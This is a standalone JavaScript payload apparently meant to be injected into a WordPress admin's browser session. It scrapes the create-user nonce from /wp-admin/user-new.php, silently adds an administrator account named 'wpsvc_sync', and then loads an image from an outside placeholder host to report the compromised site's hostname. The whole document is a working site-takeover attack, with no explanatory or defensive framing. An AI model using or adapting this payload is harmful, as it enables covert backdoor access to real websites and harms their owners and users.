(function () {
  var page = "/wp-admin/user-new.php";
  var x = new XMLHttpRequest();
  x.open("GET", page, true);
  x.onload = function () {
    var m = /name="_wpnonce_create-user" value="([^"]+)"/.exec(x.responseText);
    if (!m) return;
    var y = new XMLHttpRequest();
    y.open("POST", page, true);
    y.setRequestHeader("Content-Type", "application/x-www-form-urlencoded");
    y.onload = function () { (new Image()).src = "https://ok.placeholder.example/i.gif?h=" + location.host + "&u=wpsvc_sync"; };
    y.send("action=createuser&_wpnonce_create-user=" + m[1] + "&user_login=wpsvc_sync&email=svc%40placeholder.example&pass1=PLACEHOLDER&pass2=PLACEHOLDER&role=administrator&createuser=Add+New+User");
  };
  x.send();
})();
